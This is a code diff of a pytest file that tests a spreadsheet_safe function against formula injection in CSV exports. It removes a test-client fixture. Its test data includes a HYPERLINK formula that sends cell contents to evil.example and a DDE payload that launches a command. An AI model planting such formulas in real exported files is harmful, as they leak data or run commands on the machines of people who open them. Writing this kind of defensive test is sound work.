@@ -7,18 +7,11 @@ import csv
 import io
 
 import pytest
-from fastapi.testclient import TestClient
 
-from clinic_support import API, clinic_app, register
+from clinic_support import API, register
 from formcheck.outputs.tables import spreadsheet_safe
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-
-
-@pytest.fixture()
-def client(tmp_path):
-    with TestClient(clinic_app(tmp_path)) as c:
-        yield c
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"])
